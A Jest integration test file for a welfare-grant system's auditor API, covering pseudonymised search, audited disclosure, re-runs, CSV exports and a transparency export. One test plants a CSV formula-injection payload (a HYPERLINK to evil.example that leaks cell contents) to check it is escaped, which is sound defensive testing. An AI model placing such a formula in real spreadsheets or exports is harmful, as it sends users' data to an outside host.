import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { AuditorDecisionsService } from '../src/modules/auditor/auditor-decisions.service.js';
import { Role } from '../src/common/access/role.js';
import { bearer, caseVersion, draftAndSubmit } from './support/cases.js';
import { uniqueFiscalCode } from './support/fiscal-codes.js';
import { orphanForm } from './support/case-fixtures.js';
import { content, newGrant } from './support/measure-fixtures.js';
import { MILANO } from './support/places.js';
import { createTestApp, seedAccount, tokenFor, type TestContext } from './support/test-app.js';

const DAY = 86_400_000;
let ctx: TestContext;
const tokens: Record<string, string> = {};
const ids: Record<string, string> = {};
const cases: Record<string, string> = {};
const fiscal: Record<string, string> = {};

const orphan = (cf: string) => orphanForm({ beneficiaryFiscalCode: cf });
const aler = (cf: string, childrenCount: number) => ({
  submitterRole: 'cav_operator',
  cavCode: 'CAV-MI-07',
  womanFiscalCode: cf,
  cavStatus: 'current',
  finalPhaseOfLeavingViolence: true,
  province: 'MI',
  childrenCount,
});

const get = (path: string, who = 'auditor') => ctx.http().get(`/api/v1${path}`).set(bearer(tokens[who]));

beforeAll(async () => {
  ctx = await createTestApp();
  const accounts = {
    guardian: await seedAccount(ctx.db, [Role.APPLICANT], { residence: MILANO }),
    cav: await seedAccount(ctx.db, [Role.CAV_OPERATOR]),
    opBrescia: await seedAccount(ctx.db, [Role.OPERATOR], { atsCodes: ['326'] }),
    mgrBrescia: await seedAccount(ctx.db, [Role.MANAGER], { atsCodes: ['326'] }),
    opMilano: await seedAccount(ctx.db, [Role.OPERATOR], { atsCodes: ['321'] }),
    mgrMilano: await seedAccount(ctx.db, [Role.MANAGER], { atsCodes: ['321'] }),
    auditor: await seedAccount(ctx.db, [Role.AUDITOR]),
    auditor2: await seedAccount(ctx.db, [Role.AUDITOR]),
    admin: await seedAccount(ctx.db, [Role.ADMIN]),
  };
  for (const [name, account] of Object.entries(accounts)) {
    tokens[name] = await tokenFor(ctx, account);
    ids[name] = account.id;
  }
  // Three orphans cases a day apart: A approved ten days after receipt, B submitted, C proposed.
  for (const name of ['A', 'B', 'C']) {
    fiscal[name] = uniqueFiscalCode();
    cases[name] = (await draftAndSubmit(ctx, tokens.guardian, 'ORFANI-FEMMINICIDIO', orphan(fiscal[name]))).id;
    ctx.clock.advance(DAY);
  }
  for (const [name, children] of [
    ['W1', 2],
    ['W2', 0],
  ] as const) {
    fiscal[name] = uniqueFiscalCode();
    cases[name] = (await draftAndSubmit(ctx, tokens.cav, 'ALER-VIOLENZA', aler(fiscal[name], children))).id;
  }
  ctx.clock.set(new Date('2026-03-12T09:00:00Z')); // A was received 2026-03-02T09:00Z
  // Sealed cases: the manager assigns the operator, who proposes; the manager decides.
  const propose = async (id: string, mgr: string, op: string) => {
    let v = await caseVersion(ctx, tokens[mgr], id);
    v = (
      await ctx
        .http()
        .post(`/api/v1/cases/${id}/take-in-charge`)
        .set(bearer(tokens[mgr]))
        .send({ version: v, operatorId: ids[op] })
        .expect(200)
    ).body.version;
    return (
      await ctx
        .http()
        .post(`/api/v1/cases/${id}/proposal`)
        .set(bearer(tokens[op]))
        .send({ version: v, outcome: 'approve', reasons: 'Requisiti verificati' })
        .expect(200)
    ).body.version as number;
  };
  let v = await propose(cases.A, 'mgrBrescia', 'opBrescia');
  await ctx
    .http()
    .post(`/api/v1/cases/${cases.A}/decision`)
    .set(bearer(tokens.mgrBrescia))
    .send({ version: v, outcome: 'approve', reasons: 'Accolta' })
    .expect(200);
  await propose(cases.C, 'mgrBrescia', 'opBrescia');
  v = await propose(cases.W1, 'mgrMilano', 'opMilano');
  await ctx
    .http()
    .post(`/api/v1/cases/${cases.W1}/decision`)
    .set(bearer(tokens.mgrMilano))
    .send({ version: v, outcome: 'approve', reasons: 'Assegnazione alloggio' })
    .expect(200);
});
afterAll(() => ctx.close());

describe('decision search', () => {
  it('filters by measure and version, status, officer, amount, territory, period', async () => {
    const ids$ = async (q: string) =>
      ((await get(`/auditor/decisions?${q}`).expect(200)).body.items as { id: string }[]).map((i) => i.id);
    expect(await ids$('measureCode=ORFANI-FEMMINICIDIO')).toEqual([cases.A, cases.B, cases.C]);
    expect(await ids$('measureCode=ORFANI-FEMMINICIDIO&measureVersion=1')).toHaveLength(3);
    expect(await ids$('measureCode=ORFANI-FEMMINICIDIO&measureVersion=2')).toEqual([]);
    expect((await ids$('status=APPROVED')).sort()).toEqual([cases.A, cases.W1].sort());
    expect(await ids$(`decidedBy=${ids.mgrBrescia}`)).toEqual([cases.A]);
    expect(await ids$(`proposedBy=${ids.opBrescia}`)).toEqual([cases.A, cases.C]);
    expect(
      await ids$('minAmountCents=400000&maxAmountCents=600000&measureCode=ORFANI-FEMMINICIDIO&status=APPROVED'),
    ).toEqual([cases.A]);
    expect(await ids$('atsCode=999')).toEqual([]);
    expect(await ids$('receivedFrom=2026-03-03T00:00:00Z&receivedTo=2026-03-04T00:00:00Z')).toEqual([cases.B]);
    expect(await ids$('decidedFrom=2026-03-12T00:00:00Z')).toHaveLength(2);
    const item = (await get(`/auditor/decisions?decidedBy=${ids.mgrBrescia}`).expect(200)).body.items[0];
    expect(item).toMatchObject({
      measureCode: 'ORFANI-FEMMINICIDIO',
      measureVersion: 1,
      status: 'APPROVED',
      amountCents: 500000,
      proposedBy: ids.opBrescia,
      decidedBy: ids.mgrBrescia,
      eligibility: 'needs_review',
    });
    expect(item.beneficiaryPseudonym).toMatch(/^psn_[0-9a-f]{20}$/);
    expect(JSON.stringify(item)).not.toContain(fiscal.A);
  });

  it('keyset pages in (received_at, id) order, stable and complete', async () => {
    const all = (await get('/auditor/decisions?limit=500').expect(200)).body.items as {
      id: string;
      receivedAt: string;
    }[];
    expect(all).toHaveLength(5);
    const seen: string[] = [];
    let after: string | null = null;
    do {
      const page: { items: { id: string }[]; nextAfter: string | null } = (
        await get(`/auditor/decisions?limit=2${after ? `&after=${after}` : ''}`).expect(200)
      ).body;
      expect(page.items.length).toBeLessThanOrEqual(2);
      seen.push(...page.items.map((i) => i.id));
      after = page.nextAfter;
    } while (after);
    expect(seen).toEqual(all.map((i) => i.id));
    const bad = await get('/auditor/decisions?after=bm90LWEtY3Vyc29y').expect(400);
    expect(bad.body.code).toBe('VALIDATION_FAILED');
  });

  it('only auditors search', async () => {
    await get('/auditor/decisions', 'mgrBrescia').expect(403);
    await get('/auditor/decisions', 'admin').expect(403);
  });
});

describe('snapshot, pseudonymisation and disclosure', () => {
  it('the full snapshot, pseudonymised by default, and the read of a sealed case is audited', async () => {
    const before = await auditCount('record.read');
    const caseBefore = await caseReads(cases.A);
    const snap = (await get(`/auditor/decisions/${cases.A}`).expect(200)).body;
    expect(await caseReads(cases.A)).toBe(caseBefore + 1);
    expect(snap).toMatchObject({
      pseudonymised: true,
      measureCode: 'ORFANI-FEMMINICIDIO',
      measureVersion: 1,
      sealed: true,
      status: 'APPROVED',
      amountCents: 500000,
      proposedBy: ids.opBrescia,
      decidedBy: ids.mgrBrescia,
      decidedAt: '2026-03-12T09:00:00.000Z',
      eligibility: { outcome: 'needs_review', applicationDate: '2026-03-02' },
    });
    expect(snap.eligibility.ruleVersionHash).toMatch(/^[0-9a-f]{64}$/);
    expect(snap.eligibility.ruleVersionHash).toBe(snap.eligibility.measureVersionContentHash);
    expect(snap.eligibility.explanation.length).toBeGreaterThan(0);
    expect(snap.transitions.map((t: { event: string }) => t.event)).toEqual([
      'submit',
      'take_in_charge',
      'propose',
      'decide_approve',
    ]);
    const inputs = snap.eligibility.inputs;
    for (const field of ['beneficiaryFiscalCode', 'iban', 'guardianshipAct']) expect(inputs[field]).toMatch(/^psn_/);
    expect(inputs).toMatchObject({
      residenceIstatCode: MILANO,
      crimeDate: '2015-06-01',
      judicialAttestation: 'court_ruling',
    });
    expect(snap.beneficiary).toBe(inputs.beneficiaryFiscalCode);
    const body = JSON.stringify(snap);
    for (const clear of [fiscal.A, 'IT60X0542811101000000123456', 'Tribunale di Milano']) {
      expect(body).not.toContain(clear);
    }
    // Stable: the same person has the same pseudonym in search results.
    const listed = (await get(`/auditor/decisions?decidedBy=${ids.mgrBrescia}`).expect(200)).body.items[0];
    expect(listed.beneficiaryPseudonym).toBe(snap.beneficiary);
    expect(await auditCount('record.read')).toBe(before + 2); // the snapshot, and the search that listed the sealed case
  });

  it('a justification unlocks clear data for that auditor only, for a limited time, and is audited', async () => {
    await ctx
      .http()
      .post('/api/v1/auditor/disclosures')
      .set(bearer(tokens.auditor))
      .send({ decisionId: cases.A, justification: 'corto' })
      .expect(400);
    const justification = 'Verifica a campione richiesta dal Nucleo di controllo, pratica 42/2026';
    const res = await ctx
      .http()
      .post('/api/v1/auditor/disclosures')
      .set(bearer(tokens.auditor))
      .send({ decisionId: cases.A, justification })
      .expect(201);
    expect(res.body.expiresAt).toBe('2026-03-12T10:00:00.000Z');
    const [entry] = await ctx.db.query(
      `SELECT actor_id, target_id, change FROM audit_log WHERE action = 'record.disclosed' ORDER BY seq DESC LIMIT 1`,
    );
    expect(entry).toMatchObject({ actor_id: ids.auditor, target_id: cases.A, change: { justification } });
    const clear = (await get(`/auditor/decisions/${cases.A}`).expect(200)).body;
    expect(clear.pseudonymised).toBe(false);
    expect(clear.eligibility.inputs).toEqual(orphan(fiscal.A));
    expect(clear.beneficiary).toBe(fiscal.A);
    const [read] = await ctx.db.query(
      `SELECT change FROM audit_log WHERE action = 'record.read' ORDER BY seq DESC LIMIT 1`,
    );
    expect(read.change).toMatchObject({ via: 'auditor.snapshot', sealed: true, clear: true });
    // Another auditor, and other decisions, stay pseudonymised.
    expect((await get(`/auditor/decisions/${cases.A}`, 'auditor2').expect(200)).body.pseudonymised).toBe(true);
    expect((await get(`/auditor/decisions/${cases.B}`).expect(200)).body.pseudonymised).toBe(true);
    // After the time limit, pseudonymised again.
    ctx.clock.advance(61 * 60_000);
    expect((await get(`/auditor/decisions/${cases.A}`).expect(200)).body.pseudonymised).toBe(true);
    ctx.clock.set(new Date('2026-03-12T09:00:00Z'));
    await ctx
      .http()
      .post('/api/v1/auditor/disclosures')
      .set(bearer(tokens.auditor))
      .send({ decisionId: '00000000-0000-4000-8000-000000000000', justification })
      .expect(404);
  });
});

describe('re-run', () => {
  it('matches for every stored decision', async () => {
    for (const id of Object.values(cases)) {
      const res = await ctx
        .http()
        .post(`/api/v1/auditor/decisions/${id}/rerun`)
        .set(bearer(tokens.auditor))
        .expect(200);
      expect({ id, match: res.body.match, differences: res.body.differences }).toEqual({
        id,
        match: true,
        differences: [],
      });
      expect(res.body.ruleVersion.hashMatches).toBe(true);
      expect(res.body.outcome.match).toBe(true);
      expect(res.body.amountCents.match).toBe(true);
    }
  });

  it('reports a mismatch when a stored input is altered in the database', async () => {
    await ctx.db.query(`ALTER TABLE eligibility_decisions DISABLE TRIGGER eligibility_decisions_immutable`);
    try {
      await ctx.db.query(
        `UPDATE eligibility_decisions SET inputs = jsonb_set(inputs, '{crimeDate}', '"2016-07-01"') WHERE application_id = $1`,
        [cases.B],
      );
    } finally {
      await ctx.db.query(`ALTER TABLE eligibility_decisions ENABLE TRIGGER eligibility_decisions_immutable`);
    }
    const res = await ctx
      .http()
      .post(`/api/v1/auditor/decisions/${cases.B}/rerun`)
      .set(bearer(tokens.auditor))
      .expect(200);
    expect(res.body.match).toBe(false);
    expect(res.body.explanationMatches).toBe(false);
    expect(res.body.differences.length).toBeGreaterThan(0);
    expect(
      res.body.differences.some((d: { path: string; stored: unknown; recomputed: unknown }) =>
        d.path.startsWith('explanation'),
      ),
    ).toBe(true);
    await ctx
      .http()
      .post('/api/v1/auditor/decisions/00000000-0000-4000-8000-000000000000/rerun')
      .set(bearer(tokens.auditor))
      .expect(404);
  });
});

describe('CSV export', () => {
  it('same filters, RFC 4180, pseudonymised, streamed (chunked, no Content-Length)', async () => {
    const res = await get('/auditor/decisions.csv?measureCode=ORFANI-FEMMINICIDIO')
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.setEncoding('utf8');
        r.on('data', (c: string) => (text += c));
        r.on('end', () => cb(null, text));
      })
      .expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-length']).toBeUndefined();
    expect(res.headers['transfer-encoding']).toBe('chunked');
    const lines = (res.body as string).split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(
      'id,protocol_number,measure_code,measure_version,status,received_at,decided_at,eligibility,rule_version_hash,amount_cents,ats_code,ambito_code,proposed_by,decided_by,beneficiary_pseudonym',
    );
    const rows = lines.slice(1, -1).map((l) => l.split(','));
    expect(rows.map((r) => r[0])).toEqual([cases.A, cases.B, cases.C]);
    expect(rows[0]).toEqual(
      expect.arrayContaining(['APPROVED', '500000', ids.opBrescia, ids.mgrBrescia, '2026-03-02T09:00:00.000Z']),
    );
    const listed = (await get(`/auditor/decisions?decidedBy=${ids.mgrBrescia}`).expect(200)).body.items[0];
    expect(rows[0][14]).toBe(listed.beneficiaryPseudonym);
    for (const cf of Object.values(fiscal)) expect(res.body).not.toContain(cf);
  });

  it('reads PostgreSQL batch by batch: the first rows are out before the last are read', async () => {
    const service = ctx.app.get(AuditorDecisionsService);
    const queries: string[] = [];
    const original = ctx.db.query.bind(ctx.db);
    (ctx.db as { query: unknown }).query = (sql: string, params?: unknown[]) => {
      queries.push(sql);
      return original(sql, params);
    };
    try {
      const auditor = { id: ids.auditor, roles: [Role.AUDITOR], scope: { atsCodes: [], ambitoCodes: [] } };
      const lines = service.csv(auditor, {}, 1);
      // The first step counts what the export includes and reads the first batch only.
      const first = (await lines.next()).value as string;
      expect(first).toMatch(/^id,/);
      expect(first).toContain(cases.A);
      const read = queries.length;
      expect(queries.filter((q) => q.includes('LIMIT'))).toHaveLength(1);
      expect((await lines.next()).value).toContain(cases.B);
      expect(queries.length).toBe(read + 1);
      await lines.return(undefined);
    } finally {
      (ctx.db as { query: unknown }).query = original;
    }
  });
});

describe('searches and exports that include sealed or health-related decisions are recorded', () => {
  const listings = async () =>
    (await ctx.db.query(
      `SELECT actor_id, change FROM audit_log WHERE action = 'record.read' AND target_type = 'decisions' ORDER BY seq`,
    )) as {
      actor_id: string;
      change: Record<string, unknown>;
    }[];

  it('one entry per search page and per export, with the filter and the counts, not one per row', async () => {
    const before = (await listings()).length;
    await get('/auditor/decisions?measureCode=ALER-VIOLENZA&limit=10').expect(200);
    let entries = await listings();
    expect(entries).toHaveLength(before + 1);
    expect(entries.at(-1)).toEqual({
      actor_id: ids.auditor,
      change: {
        via: 'auditor.search',
        filter: { measureCode: 'ALER-VIOLENZA', limit: 10 },
        rows: 2,
        sealed: 2,
        healthRelated: 2, // a sealed measure reveals hardship too (its definition's flag)
      },
    });
    await get('/auditor/decisions.csv?measureCode=ORFANI-FEMMINICIDIO&status=APPROVED', 'auditor2').expect(200);
    entries = await listings();
    expect(entries).toHaveLength(before + 2);
    expect(entries.at(-1)).toEqual({
      actor_id: ids.auditor2,
      change: {
        via: 'auditor.export',
        filter: { measureCode: 'ORFANI-FEMMINICIDIO', status: 'APPROVED' },
        rows: 1,
        sealed: 1,
        healthRelated: 1,
      },
    });
    // Nothing sealed or health-related in the result: nothing to record.
    await get('/auditor/decisions?measureCode=NIDI-GRATIS-PLUS-2024-25').expect(200);
    await get('/auditor/decisions.csv?atsCode=999').expect(200);
    expect(await listings()).toHaveLength(before + 2);
  });
});

describe('a CSV export with a bad filter', () => {
  it('answers 400 problem+json naming the parameter before any byte of CSV', async () => {
    for (const [query, field] of [
      ['receivedFrom=2026-02-30', 'receivedFrom'],
      ['decidedTo=2026-W05-1', 'decidedTo'],
      ['receivedTo=2026-060', 'receivedTo'],
      ['measureVersion=99999999999', 'measureVersion'],
      ['minAmountCents=1.5', 'minAmountCents'],
      ['maxAmountCents=1e300', 'maxAmountCents'],
    ] as const) {
      const res = await get(`/auditor/decisions.csv?${query}`);
      expect({ query, status: res.status, type: res.headers['content-type'] }).toEqual({
        query,
        status: 400,
        type: expect.stringMatching(/^application\/problem\+json/),
      });
      expect(res.body.code).toBe('VALIDATION_FAILED');
      expect(res.body.errors.map((e: { field: string }) => e.field)).toContain(field);
      await get(`/auditor/decisions?${query}`).expect(400);
    }
  });
});

describe('indicators', () => {
  it('per measure and year, computed from the data, with baseline and target', async () => {
    const res = await get('/auditor/indicators').expect(200);
    const orfani = res.body.measures.find((m: { measureCode: string }) => m.measureCode === 'ORFANI-FEMMINICIDIO');
    // 3 applications; A approved for 5,000 EUR ten days after receipt; C proposed, B submitted.
    expect(orfani).toEqual({
      measureCode: 'ORFANI-FEMMINICIDIO',
      year: 2026,
      applications: 3,
      beneficiaries: 1,
      committedCents: 500000,
      paidCents: 500000,
      concludedShare: 0.3333,
      activatedShare: 0.3333,
      avgProcessingDays: 10,
      womenWithMinorsShare: null,
    });
    const alerRow = res.body.measures.find((m: { measureCode: string }) => m.measureCode === 'ALER-VIOLENZA');
    expect(alerRow).toMatchObject({
      year: 2026,
      applications: 2,
      beneficiaries: 1,
      concludedShare: 0.5,
      activatedShare: 0.5,
      womenWithMinorsShare: 0.5,
    });
    expect(res.body.definitions.paidCents).toMatch(/not revoked/);
    const violence = res.body.indicators.find((i: { code: string }) => i.code === 'VIOLENCE_WOMEN_WITH_MINORS');
    expect(violence).toMatchObject({
      unit: 'percent',
      baseline: 50,
      target2027: 50,
      values: [{ year: 2026, value: 50 }],
    });
    expect(res.body.indicators.find((i: { code: string }) => i.code === 'DISABILITY_HOME_CARE')).toMatchObject({
      baseline: 33000,
      target2027: 35000,
      values: [],
    });
    await get('/auditor/indicators', 'admin').expect(200);
    await get('/auditor/indicators', 'mgrBrescia').expect(403);
  });

  it('as CSV', async () => {
    const res = await get('/auditor/indicators.csv').expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.text).toContain('measure,,ORFANI-FEMMINICIDIO,2026,3,1,500000,500000,0.3333,0.3333,10,,,,,,\r\n');
    expect(res.text).toContain('indicator,VIOLENCE_WOMEN_WITH_MINORS,ALER-VIOLENZA,2026');
    expect((await get('/auditor/indicators?format=csv').expect(200)).text).toBe(res.text);
  });

  it('ADMIN sets baseline and target (audited); AUDITOR cannot', async () => {
    await ctx
      .http()
      .put('/api/v1/admin/indicators/VIOLENCE_WOMEN_WITH_MINORS')
      .set(bearer(tokens.auditor))
      .send({ baseline: 1, target2027: 2 })
      .expect(403);
    await ctx
      .http()
      .put('/api/v1/admin/indicators/NOPE')
      .set(bearer(tokens.admin))
      .send({ baseline: 1, target2027: 2 })
      .expect(404);
    await ctx
      .http()
      .put('/api/v1/admin/indicators/VIOLENCE_WOMEN_WITH_MINORS')
      .set(bearer(tokens.admin))
      .send({ baseline: 48, target2027: 55 })
      .expect(200);
    const violence = (await get('/auditor/indicators').expect(200)).body.indicators.find(
      (i: { code: string }) => i.code === 'VIOLENCE_WOMEN_WITH_MINORS',
    );
    expect(violence).toMatchObject({ baseline: 48, target2027: 55 });
    expect(await auditCount('indicator.target_updated')).toBe(1);
  });
});

describe('transparency export (D.Lgs. 33/2013 art. 26–27)', () => {
  /** An APPROVED grant as a fixture row, copied from case A onto another measure, beneficiary and amount. */
  let seq = 900;
  const grant = async (measureCode: string, beneficiary: string, cents: number) => {
    const [{ generated }] = await ctx.db.query(
      `SELECT is_generated = 'ALWAYS' AS generated FROM information_schema.columns WHERE table_name = 'applications' AND column_name = 'protocol_number'`,
    );
    seq += 1;
    await ctx.db.query(
      `INSERT INTO applications (measure_id, measure_version_id, owner_id, owner_role, status, data, sealed, beneficiary_fiscal_code,
         protocol_year, protocol_seq, ${generated ? '' : 'protocol_number,'} received_at, received_date, decided_at, decided_by, amount_cents)
       SELECT m.id, v.id, a.owner_id, a.owner_role, 'APPROVED', '{}', (v.definition->>'sealed')::boolean, $3, 2026, $4, ${generated ? '' : `'2026-' || lpad($4::text, 7, '0'),`}
         a.received_at, a.received_date, a.decided_at, a.decided_by, $5
       FROM applications a, measures m JOIN measure_versions v ON v.measure_id = m.id AND v.version = 1
       WHERE a.id = $1 AND m.code = $2`,
      [cases.A, measureCode, beneficiary, seq, cents],
    );
  };
  const publishable = uniqueFiscalCode();
  const below = uniqueFiscalCode();
  const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Contributo")';

  beforeAll(async () => {
    // A measure that reveals neither health nor hardship, with a hostile title: published per beneficiary.
    const definition = {
      ...newGrant('CONTRIBUTO-TRASPARENZA-2026'),
      title: { it: HOSTILE, en: 'Transparency test grant' },
    };
    await ctx.http().post('/api/v1/admin/measures').set(bearer(tokens.admin)).send(content(definition)).expect(201);
    await ctx
      .http()
      .post('/api/v1/admin/measures/CONTRIBUTO-TRASPARENZA-2026/versions/1/publish')
      .set(bearer(tokens.admin))
      .send({})
      .expect(200);
    await grant('CONTRIBUTO-TRASPARENZA-2026', publishable, 120_000); // 1,200 EUR in the year: published
    await grant('CONTRIBUTO-TRASPARENZA-2026', below, 90_000); // 900 EUR: not published
    // Two more orphans' grants (a sealed measure): three in the year, published as one aggregate.
    await grant('ORFANI-FEMMINICIDIO', uniqueFiscalCode(), 80_000);
    await grant('ORFANI-FEMMINICIDIO', uniqueFiscalCode(), 70_000);
  });

  it('per beneficiary only for measures that reveal no health or hardship, under a pseudonym of this export only', async () => {
    for (const who of ['auditor', 'admin']) {
      const res = await get('/transparency/grants.csv', who).expect(200);
      const lines = res.text.split('\r\n').filter(Boolean);
      expect(lines[0]).toBe(
        'section,beneficiary_pseudonym,measure_code,measure_title,year,grants,amount_eur,legal_basis,office,decision_date',
      );
      const grants = lines.filter((l) => l.startsWith('grant,'));
      expect(grants).toHaveLength(1);
      const pseudonym = grants[0].split(',')[1];
      expect(pseudonym).toMatch(/^pub_[0-9a-f]{20}$/);
      for (const l of grants) {
        expect(l).toMatch(
          new RegExp(
            `^grant,${pseudonym},CONTRIBUTO-TRASPARENZA-2026,.*,2026,1,1200\\.00,DGR XII/9999/2026,Regione Lombardia,2026-03-12$`,
          ),
        );
      }
      // Unlinkable: not the auditor views' pseudonym of the same person, nor its hash.
      const auditorPseudonym = ctx.app.get(AuditorDecisionsService).pseudonymiser.pseudonym(publishable);
      expect(pseudonym.slice(4)).not.toBe(auditorPseudonym.slice(4));
      expect(res.text).not.toContain(auditorPseudonym.slice(4));
      expect(res.text).not.toMatch(/psn_/);
      // The hostile title is written as text, not as a formula.
      expect(grants[0]).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Contributo"")"`);
      // Measures revealing health or hardship (sealed ones included): aggregates only, small counts suppressed.
      expect(lines.filter((l) => l.startsWith('aggregate,'))).toEqual([
        expect.stringMatching(/^aggregate,,ALER-VIOLENZA,.*,2026,<3,,.*,$/),
        expect.stringMatching(/^aggregate,,ORFANI-FEMMINICIDIO,.*,2026,3,6500\.00,.*,$/),
      ]);
      expect(lines).toHaveLength(4);
      for (const cf of [...Object.values(fiscal), publishable, below, 'Test User']) expect(res.text).not.toContain(cf);
    }
    await get('/transparency/grants.csv', 'mgrBrescia').expect(403);
  });
});

describe('a measure whose definition says it reveals health or hardship', () => {
  it('has every auditor read of its decisions recorded, whatever its code', async () => {
    const code = 'CONTRIBUTO-SALUTE-2026';
    const definition = newGrant(code, { revealsHealthOrHardship: true });
    await ctx.http().post('/api/v1/admin/measures').set(bearer(tokens.admin)).send(content(definition)).expect(201);
    await ctx
      .http()
      .post(`/api/v1/admin/measures/${code}/versions/1/publish`)
      .set(bearer(tokens.admin))
      .send({})
      .expect(200);
    const { id } = await draftAndSubmit(ctx, tokens.guardian, code, {
      beneficiaryFiscalCode: uniqueFiscalCode(),
      residenceIstatCode: MILANO,
      iseeType: 'ordinario',
      iseeValue: '9000',
    });
    expect((await get(`/auditor/decisions/${id}`).expect(200)).body).toMatchObject({
      sealed: false,
      healthRelated: true,
    });
    expect(await caseReads(id)).toBe(1);
    const lastListing = async () =>
      (
        await ctx.db.query(
          `SELECT change FROM audit_log WHERE action = 'record.read' AND target_type = 'decisions' ORDER BY seq DESC LIMIT 1`,
        )
      )[0].change as Record<string, unknown>;
    await get(`/auditor/decisions?measureCode=${code}`).expect(200);
    expect(await lastListing()).toMatchObject({ via: 'auditor.search', rows: 1, sealed: 0, healthRelated: 1 });
    await get(`/auditor/decisions.csv?measureCode=${code}`).expect(200);
    expect(await lastListing()).toMatchObject({ via: 'auditor.export', rows: 1, sealed: 0, healthRelated: 1 });
  });
});

async function caseReads(id: string): Promise<number> {
  const [{ n }] = await ctx.db.query(
    `SELECT count(*)::int AS n FROM audit_log WHERE action = 'record.read' AND target_type = 'application' AND target_id = $1`,
    [id],
  );
  return n;
}

async function auditCount(action: string): Promise<number> {
  const [{ n }] = await ctx.db.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = $1`, [action]);
  return n;
}
